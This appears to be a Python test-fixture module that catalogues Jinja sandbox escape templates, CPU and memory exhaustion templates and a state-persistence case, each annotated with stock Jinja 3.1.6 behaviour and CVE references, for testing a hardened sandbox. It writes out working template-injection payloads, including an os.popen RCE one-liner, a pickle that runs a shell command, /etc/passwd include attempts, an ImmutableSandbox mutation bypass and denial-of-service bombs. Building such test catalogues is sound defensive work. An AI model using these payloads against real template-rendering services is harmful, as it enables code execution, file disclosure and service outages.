"""Known ways out of a Jinja sandbox, and ways to exhaust one, as templates to test against.

Gathered from Jinja's security advisories and the server-side template injection lore; each
template refers to `view` (the real view in the tests). "stock" notes what a plain
`ImmutableSandboxedEnvironment` of Jinja 3.1.6 does with it, to show why llmdeploy's
sandbox allows less. References:
  CVE-2016-10745  str.format escape            https://github.com/advisories/GHSA-hj2j-77xm-mc5v
  CVE-2019-10906  str.format_map escape        https://github.com/advisories/GHSA-462w-v97r-4m45
  CVE-2024-56326  stored reference to .format  https://github.com/pallets/jinja/security/advisories/GHSA-q2x7-8rv6-6q7h
  CVE-2025-27516  |attr returns str.format     https://github.com/pallets/jinja/security/advisories/GHSA-cpwx-vrp4-4pq7
  CVE-2020-28493  ReDoS in |urlize             https://github.com/advisories/GHSA-g3rq-g295-4j3m
  pallets/jinja#549, #1567, #2149 (limits belong to the OS), #1355 and #1722 (** associativity)
"""

from __future__ import annotations

# The issue that asked for this catalogue: a pydantic model in the context ran a pickle.
ISSUE_PAYLOADS: list[tuple[str, str]] = [
    ("pydantic_parse_raw_pickle",
     "{{ view.spec.parse_raw(\"cos\\nsystem\\n(S'id > /tmp/llmdeploy-sandbox-escaped'\\ntR.\", proto='pickle', allow_pickle=True) }}"),
    ("pydantic_parse_file", "{{ view.spec.parse_file('/etc/hostname') }}"),
    ("track_model_methods", "{{ view.tracks[0].model_copy() }}"),
]

ESCAPES: list[tuple[str, str]] = [
    # --- A. dunder / internal attributes via dot syntax (classic SSTI) -------
    # stock: SEC. Classic `__class__` walk.
    ("dunder_class", "{{ view.__class__ }}"),
    # stock: SEC. SSTI: str -> object -> all subclasses (Popen, catch_warnings...).
    ("str_mro_subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    # stock: SEC. Same via tuple literal and __base__.
    ("tuple_base_subclasses", "{{ ().__class__.__base__.__subclasses__() }}"),
    # stock: SEC. dict global is the builtin type.
    ("dict_global_class", "{{ dict.__class__ }}"),
    # stock: SEC. type.mro is the one non-underscore name is_internal_attribute blocks.
    ("dict_global_mro", "{{ dict.mro() }}"),
    # stock: SEC.
    ("dict_global_base_subclasses", "{{ dict.__base__.__subclasses__() }}"),
    # stock: SEC. `range` is jinja2.sandbox.safe_range, a plain function.
    ("range_globals", "{{ range.__globals__ }}"),
    # stock: SEC.
    ("range_class", "{{ range.__class__ }}"),
    # stock: SEC. lipsum = jinja2.utils.generate_lorem_ipsum (module globals -> builtins).
    ("lipsum_globals", "{{ lipsum.__globals__['__builtins__'] }}"),
    # stock: SEC. The best-known Jinja SSTI one-liner (SSTI).
    ("cycler_init_globals_os",
     "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    # stock: SEC.
    ("joiner_init_globals", "{{ joiner.__init__.__globals__ }}"),
    # stock: SEC.
    ("namespace_init_globals", "{{ namespace.__init__.__globals__ }}"),
    # stock: SEC. dataclass metadata.
    ("dataclass_fields", "{{ view.__dataclass_fields__ }}"),
    # stock: SEC. generated dataclass __init__ carries module globals.
    ("dataclass_init_globals", "{{ view.__init__.__globals__ }}"),
    # stock: SEC.
    ("dataclass_setattr", "{{ view.__setattr__('name', 'x') }}"),
    # stock: UNDEF. Python-2 names no longer exist (func_globals, im_func).
    ("py2_func_globals", "{{ lipsum.func_globals }}"),
    ("py2_im_func", "{{ cycler(1, 2).next.im_func }}"),
    # stock: SEC. bound-method back-reference.
    ("method_self", "{{ view.name.upper.__self__ }}"),
    ("method_func_globals", "{{ cycler(1, 2).next.__func__.__globals__ }}"),
    # stock: SEC. builtin-method __self__ on dict methods.
    ("dict_method_self", "{{ view.labels.get.__self__ }}"),
    # stock: SEC (UNSAFE_GENERATOR_ATTRIBUTES). |map returns a generator.
    ("generator_gi_frame",
     "{{ (view.tracks|map('upper')).gi_frame.f_back.f_globals }}"),
    ("generator_gi_code", "{{ (view.tracks|select).gi_code }}"),
    # stock: PASS (renders 'None'): gi_yieldfrom / gi_running are not blocked,
    # harmless today but a reminder that the deny-list is by name.
    ("generator_gi_yieldfrom", "{{ (view.tracks|select).gi_yieldfrom }}"),
    # stock: UNDEF (lookups resolve in the template context, never Python builtins).
    ("name_builtins", "{{ __builtins__ }}"),
    ("name_environment", "{{ environment }}"),
    ("name_context", "{{ context }}"),
    ("name_resolve", "{{ resolve }}"),
    ("name_codegen_local", "{{ l_0_view }}"),
    ("name_flask_config", "{{ config }}"),
    ("name_flask_request", "{{ request.application.__globals__ }}"),

    # --- B. subscript / |attr / computed-name variants -----------------------
    # stock: SEC. getitem falls back to getattr and applies the same check.
    ("subscript_dunder", "{{ view['__class__'] }}"),
    ("subscript_concat", "{{ view['__cla' ~ 'ss__'] }}"),
    ("subscript_escape_seq", "{{ view['\\x5f\\x5fclass\\x5f\\x5f'] }}"),
    ("subscript_join", "{{ view[['__', 'class', '__']|join] }}"),
    ("subscript_lower", "{{ view['__CLASS__'|lower] }}"),
    ("subscript_percent_c", "{{ view['%c%cclass%c%c'|format(95, 95, 95, 95)] }}"),
    ("subscript_kwarg_name", "{{ view[dict(__class__=1)|first] }}"),
    # stock: SEC. |attr now goes through environment.getattr (CVE-2025-27516 fix).
    ("attr_filter_dunder", "{{ view|attr('__class__') }}"),
    ("attr_filter_concat", "{{ view|attr('_' * 2 ~ 'class' ~ '_' * 2) }}"),
    ("attr_filter_chain",
     "{{ view|attr('__init__')|attr('__globals__')|attr('__getitem__')('__builtins__') }}"),
    # stock: SEC (ImmutableSandbox): |attr can no longer fetch mutators.
    ("attr_filter_mutator", "{{ (view.labels|attr('update'))({'pwn': '1'}) }}"),
    # stock: SEC. map('attr', ...) reuses do_attr.
    ("map_attr_filter", "{{ [view]|map('attr', '__class__')|list }}"),

    # --- C. filters that take an attribute *path* (make_attrgetter) ----------
    # make_attrgetter uses environment.getitem, so the check applies. stock:
    # SEC for selectattr/sort/sum/unique/join/dotted map; PASS (no exception,
    # value is a StrictUndefined that is never stringified) for map, map('attr'),
    # rejectattr, groupby, min and map(default=) -- see NOTE below.
    ("map_attribute", "{{ [view]|map(attribute='__class__')|list }}"),
    ("map_attribute_dotted", "{{ [view]|map(attribute='name.__class__.__mro__')|list }}"),
    ("selectattr_dunder", "{{ [view]|selectattr('__class__')|list }}"),
    ("rejectattr_dunder", "{{ [view]|rejectattr('__class__', 'none')|list }}"),
    ("sort_attribute", "{{ [view, view]|sort(attribute='__class__.__name__') }}"),
    ("groupby_attribute", "{{ [view]|groupby('__class__') }}"),
    ("sum_attribute", "{{ [view]|sum(attribute='__class__') }}"),
    ("min_attribute", "{{ [view]|min(attribute='__class__') }}"),
    ("unique_attribute", "{{ [view]|unique(attribute='__class__')|list }}"),
    ("join_attribute", "{{ [view]|join(attribute='__class__') }}"),
    ("map_attribute_default", "{{ [view]|map(attribute='__class__', default='x')|list }}"),
    # NOTE stock: map/groupby/min/rejectattr/map(default=) return PASS: the unsafe
    # attribute becomes a StrictUndefined *inside* a container (rendered as
    # 'Undefined') or is swallowed by default=/tests, so no exception surfaces.
    # Not an escape, but an allow-list should raise at access time.
    # --- probing / oracle: learn which attributes exist without raising -----
    # stock: PASS ("False" / "blocked"): SecurityError is swallowed by
    # `is defined` and |default, so templates can probe the deny-list.
    ("probe_is_defined", "{{ view.__class__ is defined }}"),
    ("probe_default", "{{ view.__class__|default('blocked') }}"),
    ("probe_attr_default", "{{ view|attr('__globals__')|default('blocked') }}"),

    # --- D. str.format family -------------------------------------------------
    # stock: SEC. CVE-2016-10745 (format field names do attribute lookup).
    ("format_dunder", "{{ '{0.__class__}'.format(view) }}"),
    ("format_globals",
     "{{ '{0.__init__.__globals__[__builtins__]}'.format(view) }}"),
    ("format_index_dunder", "{{ '{0[__class__]}'.format(view) }}"),
    ("format_kw_dunder", "{{ '{x.__class__}'.format(x=view) }}"),
    # stock: SEC. CVE-2019-10906 (format_map).
    ("format_map_dunder", "{{ '{x.__class__}'.format_map({'x': view}) }}"),
    # stock: SEC. CVE-2024-56326: keep a reference to .format, call it later.
    ("format_stored_ref", "{% set f = '{0.__class__}'.format %}{{ f(view) }}"),
    ("format_stored_ref_macro",
     "{% macro call(f) %}{{ f(view) }}{% endmacro %}{{ call('{0.__class__}'.format) }}"),
    # stock: SEC. CVE-2025-27516: |attr('format') used to return raw str.format.
    ("format_via_attr_filter", "{{ ('{0.__class__}'|attr('format'))(view) }}"),
    ("format_map_via_attr_filter",
     "{{ ('{x.__class__}'|attr('format_map'))({'x': view}) }}"),
    # stock: SEC. other ways to fetch .format: subscript and attribute-path filters.
    ("format_via_subscript", "{{ '{0.__class__}'['format'](view) }}"),
    ("format_via_map_attribute",
     "{{ (['{0.__class__}']|map(attribute='format')|first)(view) }}"),
    # stock: SEC. wrapper made by update_wrapper exposes __wrapped__ (raw method).
    ("format_wrapped", "{{ '{0.__class__}'.format.__wrapped__(view) }}"),
    # stock: SEC. Markup.format goes through SandboxedEscapeFormatter.
    ("markup_format", "{{ ('{0.__class__}'|safe).format(view) }}"),
    ("markup_format_map", "{{ ('{x.__class__}'|escape).format_map({'x': view}) }}"),
    # stock: PASS. !r conversion = repr() of any reachable object (disclosure only).
    ("format_repr_conversion", "{{ '{0!r}'.format(view) }}"),
    # stock: PASS. %-formatting cannot traverse attributes; repr disclosure only.
    ("percent_format_repr", "{{ '%r' % (view,) }}"),

    # --- E. Jinja runtime objects --------------------------------------------
    # stock: PASS (renders '<TemplateReference None>'); private context is SEC.
    ("self_repr", "{{ self }}"),
    ("self_private_context", "{{ self._TemplateReference__context }}"),
    ("self_dict", "{{ self.__dict__ }}"),
    ("loop_class", "{% for t in view.tracks %}{{ loop.__class__ }}{% endfor %}"),
    ("loop_private_iterator", "{% for t in view.tracks %}{{ loop._iterator }}{% endfor %}"),
    ("caller_func_globals",
     "{% macro m() %}{{ caller._func.__globals__ }}{% endmacro %}{% call m() %}x{% endcall %}"),
    ("caller_environment",
     "{% macro m() %}{{ caller._environment }}{% endmacro %}{% call m() %}x{% endcall %}"),
    ("macro_func", "{% macro m() %}{% endmacro %}{{ m._func.__globals__ }}"),
    ("macro_call_globals", "{% macro m() %}{% endmacro %}{{ m.__call__.__globals__ }}"),
    ("varargs_class", "{% macro m() %}{{ varargs.__class__ }}{% endmacro %}{{ m(1) }}"),
    ("kwargs_class", "{% macro m() %}{{ kwargs.__class__ }}{% endmacro %}{{ m(a=1) }}"),
    ("namespace_private", "{{ namespace(a=1)._Namespace__attrs }}"),
    ("cycler_instance_class", "{{ cycler(1, 2).__class__.__init__.__globals__ }}"),
    # stock: TemplateRuntimeError: {% set x.y %} only targets Namespace objects.
    ("set_attr_on_view", "{% set view.name = 'x' %}{{ view.name }}"),
    ("set_attr_on_dict", "{% set d = view.labels %}{% set d.pwn = 'x' %}{{ d }}"),

    # --- F. include / import / extends (file read) ----------------------------
    # stock, no loader: TypeError "no loader for this environment specified".
    # with FileSystemLoader: TemplateNotFound (split_template_path rejects '..';
    # absolute paths are resolved *inside* the search path). The 3.1 message
    # includes the search path -> path disclosure.
    ("include_abs", "{% include '/etc/passwd' %}"),
    ("include_dotdot", "{% include '../../../../../../etc/passwd' %}"),
    ("include_dynamic", "{% include view.name %}"),
    ("include_list_ignore_missing", "{% include ['nope', '/etc/passwd'] ignore missing %}"),
    ("import_abs", "{% import '/etc/passwd' as p %}{{ p }}"),
    ("import_with_context", "{% import 'x.j2' as x with context %}{{ x }}"),
    ("from_import", "{% from '/etc/passwd' import root %}{{ root }}"),
    ("extends_abs", "{% extends '/etc/passwd' %}"),

    # --- G. mutation (ImmutableSandboxedEnvironment) -------------------------
    # stock: SEC for bound mutators on dict/list/set instances.
    ("dict_update", "{{ view.labels.update({'pwn': '1'}) }}"),
    ("dict_setdefault", "{{ view.labels.setdefault('pwn', '1') }}"),
    ("dict_pop", "{{ view.labels.pop('team') }}"),
    ("dict_popitem", "{{ view.labels.popitem() }}"),
    ("dict_clear", "{{ view.labels.clear() }}"),
    ("dict_setitem_dunder", "{{ view.labels.__setitem__('pwn', '1') }}"),
    ("dict_ior_dunder", "{{ view.labels.__ior__({'pwn': '1'}) }}"),
    ("dict_update_subscript", "{{ view.labels['update']({'pwn': '1'}) }}"),
    ("dict_update_map_attribute",
     "{{ ([view.labels]|map(attribute='update')|first)({'pwn': '1'}) }}"),
    ("list_append", "{% set l = [1] %}{{ l.append(2) }}{{ l }}"),
    ("list_extend", "{% set l = [1] %}{{ l.extend([2]) }}{{ l }}"),
    ("list_setitem", "{% set l = [1] %}{{ l.__setitem__(0, 2) }}"),
    # *** stock: PASS -- real ImmutableSandbox bypass. The `dict` global is the
    # builtin *type*; modifies_known_mutable(dict, 'update') is False because
    # the type object is not an instance of MutableMapping, so the UNBOUND
    # method is returned and happily mutates the context's dict in place.
    ("unbound_dict_update", "{{ dict.update(view.labels, pwn='1') }}{{ view.labels }}"),
    ("unbound_dict_setdefault", "{{ dict.setdefault(view.labels, 'pwn', '1') }}"),
    ("unbound_dict_pop", "{{ dict.pop(view.labels, 'team') }}"),
    ("unbound_dict_popitem", "{{ dict.popitem(view.labels) }}"),
    ("unbound_dict_clear", "{{ dict.clear(view.labels) }}{{ view.labels }}"),
    # stock: SEC (dunder).
    ("unbound_dict_setitem", "{{ dict.__setitem__(view.labels, 'pwn', '1') }}"),
    # *** stock: PASS -- cycler/joiner/namespace globals are classes too, so
    # their unbound methods accept any object as `self`. Cycler.reset does
    # `self.pos = 0`: writes an attribute onto shared process-global objects.
    ("unbound_cycler_reset_global", "{{ cycler.reset(lipsum) }}{{ lipsum.pos }}"),
    ("unbound_cycler_reset_range", "{{ cycler.reset(range) }}{{ range.pos }}"),
    # stock: ERR FrozenInstanceError (frozen dataclass protects itself).
    ("unbound_cycler_reset_view", "{{ cycler.reset(view) }}"),
    # stock: PASS by design: Namespace objects are meant to be mutable.
    ("namespace_set", "{% set ns = namespace(a=1) %}{% set ns.a = 2 %}{{ ns.a }}"),
    # stock: TemplateSyntaxError unless jinja2.ext.do is enabled; with it -> SEC.
    ("do_update", "{% do view.labels.update({'pwn': '1'}) %}"),
    ("do_unbound_update", "{% do dict.update(view.labels, pwn='1') %}"),

    # --- I. defeating the `finalize` quoting (YAML injection by data) -------
    # finalize only wraps {{ }} output; a {% filter %} block post-processes the
    # already-finalized text and its result is NOT finalized again.
    # stock: PASS. With view.name == 'a\nb: c' these emit an unquoted / raw
    # multi-line value, i.e. data can inject YAML keys.
    ("finalize_bypass_filter_unquote",
     "key: {% filter replace('\"', '') %}{{ view.name }}{% endfilter %}"),
    ("finalize_bypass_filter_newline",
     "key: {% filter replace('\"', '')|replace('\\\\n', '\\n') %}{{ view.name }}{% endfilter %}"),
    # stock: PASS but safe: {% set %} blocks / macros are finalized again (double-quoted).
    ("finalize_block_set", "{% set s %}{{ view.name }}{% endset %}{{ s }}"),

    # --- H. information disclosure ------------------------------------------
    # stock: PASS. repr/str of functions/classes leaks module paths + heap addresses.
    ("repr_lipsum", "{{ lipsum }}"),
    ("repr_range", "{{ range }}"),
    ("repr_cycler", "{{ cycler }}"),
    ("repr_dict_type", "{{ dict }}"),
    ("repr_macro", "{% macro m() %}{% endmacro %}{{ m }}"),
    ("repr_generator", "{{ view.tracks|map('upper') }}"),
    # stock: PASS. full dataclass repr (every field, even ones not meant for output).
    ("repr_view", "{{ view }}"),
    ("pprint_view", "{{ view|pprint }}"),
    ("string_view", "{{ view|string }}"),
    # stock: ERR TypeError 'Object of type View is not JSON serializable' (type leak).
    ("tojson_view", "{{ view|tojson }}"),
    # stock: UNDEF; message names the Python class.
    ("undefined_attr_message", "{{ view.does_not_exist }}"),
    # stock: SEC (any leading underscore is blocked, incl. __doc__/__name__).
    ("doc_string", "{{ view.labels.get.__doc__ }}"),
    # stock: PASS. bytes round trip; harmless but shows non-str types are reachable.
    ("encode_bytes", "{{ view.name.encode('utf-16') }}"),
]

# ---------------------------------------------------------------------------
# BOMBS: CPU / memory / recursion exhaustion. Expect these to be stopped by a
# resource guard; stock Jinja stops only a few of them (range > 100000 items).
# Many *constant* expressions are evaluated by the optimizer inside
# env.from_string()/compile (nodes.BinExpr.as_const / Filter.as_const), so the
# bomb fires at COMPILE time unless the operator is in intercepted_binops or
# the environment is created with optimized=False.
# ---------------------------------------------------------------------------
_DEEP = 10_000
BOMBS: list[tuple[str, str]] = [
    # --- CPU ---------------------------------------------------------------
    # stock: ERR OverflowError (safe_range MAX_RANGE=100000). Blocked.
    ("range_huge", "{{ range(10**9)|length }}"),
    # stock: RENDER-BOMB. 100000 x 100000 iterations; each range is under the limit.
    ("range_nested",
     "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}"),
    # stock: RENDER-BOMB. 2**40 macro calls, no range needed.
    ("macro_exponential",
     "{% macro f(n) %}{% if n %}{{ f(n - 1) }}{{ f(n - 1) }}{% endif %}{% endmacro %}{{ f(40) }}"),
    # stock: ERR RecursionError (Python limit). Make sure it's caught, not a crash.
    ("macro_infinite_recursion", "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}"),
    ("loop_recursive", "{% for x in [1] recursive %}{{ loop([1]) }}{% endfor %}"),
    # NB: Jinja's ** is LEFT-associative, so `10**10**10` == (10**10)**10 == 1e100
    # (harmless). Keep it as a regression guard, and use explicit parens for the bomb.
    ("pow_left_assoc", "{{ 10**10**10 }}"),
    # stock: COMPILE-BOMB. constant-folded pow; hangs / MemoryError in from_string.
    ("pow_const", "{{ 10**(10**10) }}"),
    # stock: RENDER-BOMB. same, but non-constant so it runs at render time.
    ("pow_runtime", "{{ (view.tracks|length + 8) ** (10**10) }}"),
    # stock: ERR ValueError (CPython 3.11 int->str digit limit) -- not exploitable, but slow-ish.
    ("pow_digits", "{{ 10**100000 }}"),
    # stock: RENDER-BOMB. slice() loops `slices` times -> 10**9 iterations.
    ("slice_huge", "{{ range(10)|slice(10**9)|list|length }}"),
    # stock: CPU in textwrap on a long single word with width=1.
    ("wordwrap_width1", "{{ (view.name * 10**6)|wordwrap(1)|length }}"),
    # stock: fine in 3.1.6 (regex made linear after CVE-2020-28493).
    ("urlize_redos_parens", "{{ ('(' * 50000 ~ 'a' ~ ')' * 50000 ~ '!')|urlize|length }}"),
    ("urlize_redos_domain", "{{ ('a' * 50000 ~ '.' ~ 'a' * 50000 ~ '!' * 50000)|urlize|length }}"),
    ("urlize_redos_email", "{{ ('a@' ~ 'a.' * 50000 ~ '!')|urlize|length }}"),
    ("striptags_redos", "{{ ('<!--' * 100000 ~ 'x')|striptags|length }}"),
    # --- memory ------------------------------------------------------------
    # stock: COMPILE-BOMB. 'x' * 10**9 is folded by the optimizer.
    ("str_mul_const", "{{ 'x' * 10**9 }}"),
    # stock: RENDER-BOMB. 3 GB string.
    ("str_mul_runtime", "{{ (view.name * 10**9)|length }}"),
    ("list_mul_runtime", "{{ ([view.name] * 10**9)|length }}"),
    ("tuple_mul_runtime", "{{ (view.tracks * 10**9)|length }}"),
    ("list_mul_const", "{{ ([0] * 10**9)|length }}"),
    # stock: RENDER-BOMB. doubling: 2**40 chars. `~` cannot be intercepted.
    ("ns_doubling_tilde",
     "{% set ns = namespace(x='x') %}{% for i in range(40) %}{% set ns.x = ns.x ~ ns.x %}{% endfor %}{{ ns.x|length }}"),
    ("ns_doubling_plus",
     "{% set ns = namespace(x=view.name) %}{% for i in range(40) %}{% set ns.x = ns.x + ns.x %}{% endfor %}{{ ns.x|length }}"),
    ("macro_doubling",
     "{% macro d(s, n) %}{% if n %}{{ d(s ~ s, n - 1) }}{% else %}{{ s|length }}{% endif %}{% endmacro %}{{ d('x', 40) }}"),
    # stock: COMPILE-BOMB (const) / RENDER-BOMB (runtime): padding filters & methods.
    ("center_const", "{{ 'x'|center(10**9) }}"),
    # stock: COMPILE-BOMB even with intercepted_binops and optimized=False:
    # literal args let Filter.as_const fold the call while compiling {{ }} output.
    ("center_literal_const", "{{ 'x'|center(1000000000) }}"),
    ("format_filter_literal_const", "{{ '%1000000000s'|format('x') }}"),
    ("percent_literal_const", "{{ '%1000000000s' % 'x' }}"),
    ("center_runtime", "{{ view.name|center(10**9)|length }}"),
    ("indent_runtime", "{{ view.name|indent(10**9)|length }}"),
    ("percent_width_filter", "{{ '%*s'|format(10**9, view.name)|length }}"),
    ("percent_width_operator", "{{ ('%-999999999s' % view.name)|length }}"),
    ("strformat_width", "{{ '{:>999999999}'.format(view.name)|length }}"),
    ("strformat_nested_width", "{{ '{0:>{1}}'.format(view.name, 10**9)|length }}"),
    ("zfill", "{{ view.name.zfill(10**9)|length }}"),
    ("ljust", "{{ view.name.ljust(10**9)|length }}"),
    ("expandtabs", "{{ ('\\t' ~ view.name).expandtabs(10**9)|length }}"),
    ("replace_amplify",
     "{{ (view.name * 10**4).replace('', view.name * 10**5)|length }}"),
    ("join_amplify", "{{ range(100000)|join(view.name * 10**4)|length }}"),
    ("list_of_ranges", "{{ ((range(100000)|list) * 100000)|length }}"),
    # stock: RENDER-BOMB. batch() pads the last chunk with [fill] * (n - len).
    ("batch_fill", "{{ range(1)|batch(10**9, 'x')|list|length }}"),
    # stock: RENDER-BOMB. lipsum has no upper bound on n/min/max.
    ("lipsum_n", "{{ lipsum(10**6)|length }}"),
    ("lipsum_words", "{{ lipsum(1, false, 10**9, 10**9 + 1)|length }}"),
    ("cycler_big", "{{ cycler(*(range(100000)|list * 1000)).items|length }}"),
    # stock: RENDER-BOMB. huge *output* built from small pieces.
    ("output_nested",
     "{% for i in range(100000) %}{% for j in range(100000) %}xxxxxxxxxx{% endfor %}{% endfor %}"),
    ("output_lipsum_loop", "{% for i in range(100000) %}{{ lipsum(20) }}{% endfor %}"),
    # --- parser / compiler depth (template *source* is the bomb) -------------
    # stock: ERR RecursionError / MemoryError during from_string.
    ("deep_parens", "{{ " + "(" * _DEEP + "1" + ")" * _DEEP + " }}"),
    ("deep_unary", "{{ " + "-" * 100_000 + "1 }}"),
    ("deep_lists", "{{ " + "[" * _DEEP + "]" * _DEEP + " }}"),
    ("deep_getattr", "{{ view" + ".name" * 100_000 + " }}"),
    ("deep_if", "{% if 1 %}" * 3000 + "{% endif %}" * 3000),
    ("deep_filters", "{{ view.name" + "|upper" * 100_000 + " }}"),
    ("long_concat", "{{ 'x'" + " ~ 'x'" * 100_000 + " }}"),
]

# State that outlives a render: an imported template's namespace (found in review).
PERSISTENCE: dict[str, str] = {
    "_state.yaml": "{% set ns = namespace(n=0, last='') %}",
    "cm.yaml": ("{% import '_state.yaml' as s %}{% set ns = s.ns %}{% set ns.n = ns.n + 1 %}"
                "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: {{ view.name ~ '-state' }}}\n"
                "data: {renders: {{ ns.n }}, previous: {{ ns.last }}}\n"
                "{% set ns.last = view.namespace ~ '/' ~ view.name %}"),
}
